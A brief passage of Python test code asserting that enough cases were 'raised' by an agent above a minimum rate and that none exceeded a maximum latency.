    assert len(ok) / len(run) >= MIN_RAISED, f"not raised: {missed} (agent log: {agent.log})"
    slow = [(s.name, round(seen, 2)) for s, _, seen, _ in run if seen is not None and seen > MAX_LATENCY]
    assert slow == []
